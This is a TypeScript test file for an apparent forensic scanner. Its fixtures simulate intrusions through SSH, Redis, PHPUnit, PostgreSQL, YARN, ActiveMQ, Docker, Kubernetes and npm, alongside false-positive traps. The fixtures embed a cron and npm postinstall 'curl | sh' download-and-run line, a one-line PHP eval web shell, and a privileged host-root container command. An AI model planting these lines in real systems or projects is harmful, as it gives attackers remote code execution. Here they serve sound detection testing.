/**
 * Evidence folders, from the bytes of their logs to the way in: found, read, judged and told by the product itself.
 *
 * A folder's inodes are made as the test runs, so its logs tell of the minutes before now.
 */
import { afterAll, describe, expect, test } from 'bun:test';
import type { ScanResult } from '../../src/model/result.ts';
import { type RootFiles, scanRoots } from './scan-root.ts';

const roots = scanRoots();
afterAll(() => roots.remove());

const attacker = '203.0.113.66';
const admin = '198.51.100.7';
const minute = 60_000;
/** The wall clock of the folder, which keeps UTC. */
const when = (minutes: number): Date => new Date(Date.now() - minutes * minute);
const iso = (minutes: number): string => when(minutes).toISOString().replace('Z', '+00:00');
const plain = (minutes: number): string => when(minutes).toISOString().slice(0, 19).replace('T', ' ');
const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const two = (value: number): string => String(value).padStart(2, '0');
const clock = (date: Date): string =>
  `${two(date.getUTCHours())}:${two(date.getUTCMinutes())}:${two(date.getUTCSeconds())}`;
const sshd = (minutes: number, message: string): string => `${iso(minutes)} web-1 sshd[12]: ${message}\n`;
const guesses = (count: number, from = attacker, until = 6): string =>
  Array.from({ length: count }, (_, index) =>
    sshd(
      until + (count - index) / 4,
      `Failed password for ${['root', 'admin', 'pi'][index % 3]} from ${from} port ${40_000 + index} ssh2`,
    ),
  ).join('');
const accepted = (minutes: number, from = attacker, account = 'root'): string =>
  sshd(minutes, `Accepted password for ${account} from ${from} port 50000 ssh2`);
const keyed = (minutes: number, from: string, key = 'AbCdEfGhIjKlMnOpQrStUvWxYz'): string =>
  sshd(
    minutes,
    `Accepted publickey for root from ${from} port 50001 ssh2: ED25519 SHA256:${key}0123456789+/abcde`,
  );
const nginx = (
  minutes: number,
  target: string,
  { from = attacker, method = 'GET', status = 200, size = 31, referrer = '-', agent = 'curl/8' } = {},
): string => {
  const at = when(minutes);
  const stamp = `${two(at.getUTCDate())}/${months[at.getUTCMonth()]}/${at.getUTCFullYear()}:${clock(at)} +0000`;
  return `${from} - - [${stamp}] "${method} ${target} HTTP/1.1" ${status} ${size} "${referrer}" "${agent}"\n`;
};
const visitors = (count: number): string =>
  Array.from({ length: count }, (_, index) =>
    nginx(30 + count - index, `/articles/${index % 40}`, {
      from: `198.51.100.${index % 200}`,
      size: 4_000 + index,
      agent: 'Mozilla/5.0',
    }),
  ).join('');
const redis = (minutes: number, message: string): string => {
  const at = when(minutes);
  return `812:M ${two(at.getUTCDate())} ${months[at.getUTCMonth()]} ${at.getUTCFullYear()} ${clock(at)}.100 * ${message}\n`;
};

const system = {
  'etc/timezone': 'Etc/UTC\n',
  'etc/os-release': 'ID=debian\nPRETTY_NAME="Debian GNU/Linux 12"\n',
  'etc/passwd': [
    'root:x:0:0:root:/root:/bin/bash',
    'www-data:x:33:33::/var/www:/usr/sbin/nologin',
    'redis:x:101:101::/var/lib/redis:/usr/sbin/nologin',
    'postgres:x:102:102::/var/lib/postgresql:/bin/bash',
    'yarn:x:103:103::/home/yarn:/bin/bash',
    'activemq:x:104:104::/home/activemq:/bin/bash',
    'git:x:1001:1001::/home/git:/bin/bash',
    '',
  ].join('\n'),
};
const bad = '* * * * * curl -fsSL http://192.0.2.66/x.sh | sh\n';
const crontab = (account: string): RootFiles => ({ [`var/spool/cron/crontabs/${account}`]: bad });
const dump = (line: string): Uint8Array =>
  Buffer.concat([
    Buffer.from('REDIS0009\xfa\x09redis-ver\x055.0.7\xfe\x00\xfb\x01\x00\x00\x01x\xc3\x20', 'latin1'),
    Buffer.from(`\n\n${line}\n\n`),
    Buffer.from([0xff, 1, 2, 3, 4, 5, 6, 7, 8]),
  ]);

/** What Docker keeps of a container that has the host's root and fetches what it runs. */
const container = (minutes: number, accused: boolean): RootFiles => {
  const id = 'deadbeef'.repeat(8);
  const command = accused ? 'curl -fsSL http://192.0.2.66/x.sh | chroot /mnt sh' : 'exec node_exporter';
  const config = {
    State: { Running: true, StartedAt: when(minutes).toISOString(), Pid: 4242 },
    ID: id,
    Created: when(minutes).toISOString(),
    Path: 'sh',
    Args: ['-c', command],
    Config: { Image: 'alpine', Cmd: ['-c', command], Entrypoint: ['sh'], Env: [], Labels: {} },
    Name: '/x',
    Driver: 'overlay2',
  };
  const host = {
    Binds: ['/:/mnt'],
    NetworkMode: 'host',
    RestartPolicy: { Name: 'always', MaximumRetryCount: 0 },
    PidMode: 'host',
    Privileged: true,
  };
  return {
    [`var/lib/docker/containers/${id}/config.v2.json`]: JSON.stringify(config),
    [`var/lib/docker/containers/${id}/hostconfig.json`]: JSON.stringify(host),
  };
};
const audit = (minutes: number, user: string, code: number, from = attacker): string =>
  `${JSON.stringify({
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'Metadata',
    stage: 'ResponseComplete',
    stageTimestamp: when(minutes).toISOString().replace('Z', '000Z'),
    verb: 'create',
    requestURI: '/apis/apps/v1/namespaces/kube-system/daemonsets',
    user: { username: user },
    sourceIPs: [from],
    objectRef: { resource: 'daemonsets', namespace: 'kube-system', name: 'x', apiVersion: 'v1' },
    responseStatus: { code },
  })}\n`;
const history = (minutes: number, command: string): string =>
  `#${Math.floor(when(minutes).getTime() / 1000)}\n${command}\n`;
/** A project whose script runs with each installation. */
const hook = {
  'home/git/app/package.json': JSON.stringify({
    name: 'app',
    scripts: { postinstall: 'curl -fsSL http://192.0.2.66/x.sh | sh' },
  }),
  'home/git/app/.git/HEAD': 'ref: refs/heads/main\n',
};

interface Folder {
  readonly name: string;
  readonly files: () => RootFiles;
  /** `vector account attackers` of the first way in, which is better than possible; nothing for a trap. */
  readonly door?: string;
  readonly grade?: string;
  readonly also?: (result: ScanResult) => void;
}

const doors: readonly Folder[] = [
  {
    name: 'SSH, guessed',
    files: () => ({ 'var/log/auth.log': guesses(60) + accepted(2), ...crontab('root') }),
    door: `ssh-brute-force root ${attacker}`,
    grade: 'confirmed',
  },
  {
    name: 'SSH, guessed slowly, in a log that was packed away and one that goes on',
    files: () => ({
      'var/log/auth.log.2.gz': Bun.gzipSync(
        Buffer.from(
          Array.from({ length: 40 }, (_, index) =>
            sshd(
              60 * 24 * 20 - index * 360,
              `Failed password for invalid user ${['pi', 'test', 'oracle', 'git'][index % 4]} from ${attacker} port 5 ssh2`,
            ),
          ).join(''),
        ),
      ),
      'var/log/auth.log': keyed(60 * 24 * 2, admin) + accepted(2, attacker, 'git'),
      ...crontab('git'),
    }),
    door: `ssh-brute-force git ${attacker}`,
    grade: 'confirmed',
  },
  {
    name: 'Redis, a dump for cron',
    files: () => ({
      'var/log/redis/redis-server.log':
        redis(60, 'Ready to accept connections') + redis(0, 'DB saved on disk'),
      'var/spool/cron/crontabs/root': dump('*/2 * * * * curl -fsSL http://192.0.2.66/x.sh | sh'),
    }),
    door: 'redis-cron redis ',
    grade: 'confirmed',
  },
  {
    name: 'Redis, a dump for sshd',
    files: () => ({
      'var/log/redis/redis-server.log':
        redis(60, 'Ready to accept connections') + redis(0, 'DB saved on disk'),
      'root/.ssh/authorized_keys': dump(
        'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJvL0r3L5m3Qq2Q1yq3o3Zr5lC0l8l6mVw1b7t9d2c3e x',
      ),
    }),
    door: 'redis-key redis ',
    grade: 'confirmed',
  },
  {
    name: 'Redis, a script out of its box',
    files: () => ({
      'var/log/redis/monitor.log': `${(when(1).getTime() / 1000).toFixed(6)} [0 ${attacker}:4000] "eval" "local l = package.loadlib(\\"liblua5.1.so.0\\", \\"luaopen_io\\")" "0"\n`,
      ...crontab('redis'),
    }),
    door: `redis-lua redis ${attacker}`,
    grade: 'confirmed',
  },
  {
    name: 'web, PHPUnit',
    files: () => ({
      'var/log/nginx/access.log':
        visitors(300) + nginx(2, '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', { method: 'POST' }),
      ...crontab('www-data'),
    }),
    door: `web-exploit www-data ${attacker}`,
    grade: 'confirmed',
  },
  {
    name: 'web, a shell in the folder of uploads',
    files: () => ({
      'var/log/nginx/access.log':
        visitors(300) + nginx(2, '/uploads/x.php') + nginx(1, '/uploads/x.php', { method: 'POST' }),
      'var/www/html/uploads/x.php': "<?php @eval($_POST['c']);",
      ...crontab('www-data'),
    }),
    door: `web-shell www-data ${attacker}`,
  },
  {
    name: 'PostgreSQL, COPY FROM PROGRAM',
    files: () => ({
      'var/log/postgresql/postgresql-15-main.log': `${plain(2)}.000 UTC [11] postgres@postgres LOG:  statement: COPY x FROM PROGRAM 'curl http://192.0.2.66/x.sh|sh'\n`,
      ...crontab('postgres'),
    }),
    door: 'database-exec postgres ',
    grade: 'confirmed',
  },
  {
    name: 'YARN, an application of nobody',
    files: () => ({
      'var/log/hadoop-yarn/hadoop-yarn-resourcemanager-web-1.log': `${plain(2)},100 INFO org.apache.hadoop.yarn.server.resourcemanager.RMAuditLogger: USER=dr.who\tIP=${attacker}\tOPERATION=Submit Application Request\tTARGET=ClientRMService\tRESULT=SUCCESS\tAPPID=application_1_0001\n`,
      ...crontab('yarn'),
    }),
    door: `scheduler yarn ${attacker}`,
    grade: 'confirmed',
  },
  {
    name: 'ActiveMQ, beans from an address',
    files: () => ({
      'opt/activemq/data/activemq.log': `${plain(2)},100 | INFO  | Loading XML bean definitions from URL [http://${attacker}/poc.xml] | org.springframework.beans.factory.xml.XmlBeanDefinitionReader | ActiveMQ Transport: tcp:///${attacker}:5@61616\n`,
      ...crontab('activemq'),
    }),
    door: `broker activemq ${attacker}`,
    grade: 'confirmed',
  },
  {
    name: 'Docker, a container with the root of the host',
    files: () => ({
      'var/log/nginx/access.log':
        nginx(3, '/v1.41/containers/json') +
        nginx(2, '/v1.41/containers/create', { method: 'POST', status: 201 }),
      ...container(1.9, true),
    }),
    door: `docker-api root ${attacker}`,
    grade: 'confirmed',
  },
  {
    name: 'Kubernetes, a daemon set of nobody',
    files: () => ({
      'var/log/kubernetes/audit.log': audit(3, 'system:anonymous', 403) + audit(2, 'system:anonymous', 201),
      ...crontab('root'),
    }),
    door: `kubelet system:anonymous ${attacker}`,
    grade: 'confirmed',
  },
  {
    name: 'npm, a project that fetches when it is installed',
    files: () => ({ 'home/git/.bash_history': history(2, 'npm install'), ...hook }),
    door: 'supply-chain git ',
    grade: 'confirmed',
  },
  {
    name: 'a neighbour with a key that was never used here',
    files: () => ({
      'var/log/auth.log':
        sshd(60 * 24 * 3, `Accepted password for git from ${admin} port 5 ssh2`) +
        keyed(2, '10.0.0.9', 'zYxWvUtSrQpOnMlKjIhGfEdCbA'),
      ...crontab('root'),
    }),
    door: 'lateral root 10.0.0.9',
    grade: 'confirmed',
  },
];

const traps: readonly Folder[] = [
  {
    name: 'guessed at without a success, and the owner with his key',
    files: () => ({
      'var/log/auth.log': keyed(60 * 24 * 3, admin) + guesses(200) + keyed(2, admin),
      ...crontab('root'),
    }),
  },
  {
    name: 'a name of a user that looks like a success',
    files: () => ({
      'var/log/auth.log':
        guesses(60) +
        sshd(
          2,
          `Failed password for invalid user Accepted password for root from ${attacker} port 5 ssh2 from ${attacker} port 5 ssh2`,
        ) +
        `${iso(2)} web-1 shop[9]: sshd[12]: Accepted password for root from ${attacker} port 5 ssh2\n`,
      ...crontab('root'),
    }),
  },
  {
    name: 'scans that were answered with 404 and 403',
    files: () => ({
      'var/log/nginx/access.log':
        visitors(300) +
        [404, 403, 406]
          .map((status) =>
            nginx(2, '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', { method: 'POST', status }),
          )
          .join(''),
      ...crontab('www-data'),
    }),
  },
  {
    name: 'an agent with a line of another client within',
    files: () => ({
      'var/log/nginx/access.log':
        visitors(300) +
        nginx(2, '/', {
          size: 900,
          agent: `x\\x22\\x0A${attacker} - - \\x22POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\\x22 200 31`,
        }),
      ...crontab('www-data'),
    }),
  },
  {
    name: 'a test of the whole site days ago that left nothing',
    files: () => ({
      'var/log/nginx/access.log':
        nginx(60 * 24 * 4, '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', { method: 'POST' }) +
        nginx(60 * 24 * 4, '/cgi-bin/.%2e/.%2e/.%2e/bin/sh', { method: 'POST', size: 77 }) +
        visitors(300),
      ...crontab('www-data'),
    }),
  },
  {
    name: 'Redis that saves all day, and a crontab that is no dump',
    files: () => ({
      'var/log/redis/redis-server.log': Array.from({ length: 200 }, (_, index) =>
        redis(200 - index, 'DB saved on disk'),
      ).join(''),
      ...crontab('root'),
    }),
  },
  {
    name: 'scripts of an application in Redis',
    files: () => ({
      'var/log/redis/monitor.log': `${(when(1).getTime() / 1000).toFixed(6)} [0 10.0.0.7:4000] "eval" "return redis.call('incr', KEYS[1])" "1" "n"\n`,
      ...crontab('redis'),
    }),
  },
  {
    name: 'dumps that are loaded every night, and words of an attack in a text',
    files: () => ({
      'var/log/postgresql/postgresql-15-main.log': `${plain(3)}.000 UTC [11] etl@shop LOG:  statement: COPY x FROM PROGRAM 'gzip -dc /srv/in/x.gz'\n${plain(2)}.000 UTC [12] wiki@wiki LOG:  statement: INSERT INTO p VALUES ('xp_cmdshell, lo_export and COPY FROM PROGRAM')\n`,
      ...crontab('postgres'),
    }),
  },
  {
    name: 'an application of a user that is somebody',
    files: () => ({
      'var/log/hadoop-yarn/hadoop-yarn-resourcemanager-web-1.log': `${plain(2)},100 INFO org.apache.hadoop.yarn.server.resourcemanager.RMAuditLogger: USER=alice\tIP=10.0.0.7\tOPERATION=Submit Application Request\tTARGET=ClientRMService\tRESULT=SUCCESS\tAPPID=application_1_0001\n`,
      ...crontab('yarn'),
    }),
  },
  {
    name: 'Docker: strangers are refused, and a container of the owner has the root of the host',
    files: () => ({
      'var/log/nginx/access.log':
        nginx(3, '/v1.41/containers/json') +
        nginx(2, '/v1.41/containers/create', { method: 'POST', status: 403 }),
      ...container(1.9, false),
      ...crontab('git'),
    }),
  },
  {
    name: 'Kubernetes: nobody is refused, and a controller works',
    files: () => ({
      'var/log/kubernetes/audit.log':
        audit(3, 'system:anonymous', 403) +
        audit(2, 'system:serviceaccount:kube-system:daemon-set-controller', 201, '10.0.0.2'),
      ...crontab('root'),
    }),
  },
  {
    name: 'npm beside a trace that lies elsewhere',
    files: () => ({ 'home/git/.bash_history': history(2, 'npm install react'), ...crontab('www-data') }),
  },
  {
    name: 'a host that is in order: whatever is tried, nothing was left',
    files: () => ({
      'var/log/auth.log': guesses(60) + accepted(2, admin),
      'var/log/nginx/access.log': nginx(2, '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', {
        method: 'POST',
      }),
      'etc/cron.d/backup': '0 3 * * * root /usr/local/bin/backup --all\n',
    }),
    also: ({ verdict, entry = [] }) => expect([verdict, entry]).toEqual(['clean', []]),
  },
];

describe('a folder tells its door', () => {
  test.each(doors.map((one) => [one.name, one] as const))('%s', async (_, { files, door, grade }) => {
    const { entry = [] } = await roots.scan({ ...system, ...files() });
    const [first] = entry;
    expect(`${first?.vector} ${first?.account} ${first?.attackers.join(' ')}`).toBe(door ?? '');
    if (grade !== undefined) expect([first?.grade, first?.missing]).toEqual([grade as never, []]);
    expect(first?.chain.map(({ step }) => step)).toContain('success');
  });
});

/** What every host on the internet has in its logs, and what its owner does all day. */
function noise(): RootFiles {
  const logs: Record<string, string> = {};
  for (const { files } of traps.filter(({ also }) => also === undefined))
    for (const [path, content] of Object.entries(files()))
      if (/\.log$|_history$/.test(path) && typeof content === 'string')
        logs[path] = (logs[path] ?? '') + content;
  return logs;
}

describe('a folder tells its door among the noise of all others', () => {
  test.each(doors.map((one) => [one.name, one] as const))('%s', async (_, { files, door, grade }) => {
    const around = noise();
    const own = Object.entries(files()).map(([path, content]) => {
      const before = around[path];
      return [path, typeof before === 'string' && typeof content === 'string' ? before + content : content];
    });
    const { entry = [] } = await roots.scan({ ...system, ...around, ...Object.fromEntries(own) });
    const [first] = entry;
    expect(`${first?.vector} ${first?.account} ${first?.attackers.join(' ')}`).toBe(door ?? '');
    if (grade !== undefined) expect(first?.grade).toBe(grade as never);
  });
});

describe('a folder that only looks like it names nobody', () => {
  test.each(traps.map((one) => [one.name, one] as const))('%s', async (_, { files, also }) => {
    const result = await roots.scan({ ...system, ...files() });
    const named = (result.entry ?? []).filter(({ grade }) => grade !== 'possible');
    expect(named.map(({ vector, attackers }) => `${vector} ${attackers.join(' ')}`)).toEqual([]);
    expect(JSON.stringify(result.entry ?? [])).not.toContain(admin);
    if (also !== undefined) return also(result);
    expect(result.verdict).not.toBe('clean');
    // What nobody read names nobody either.
    const read = (result.horizon ?? []).map(({ source }) => source.slice(1));
    const logs = Object.keys(files()).filter((path) => /\.log$|_history$/.test(path));
    expect(read).toEqual(expect.arrayContaining(logs));
  });
});
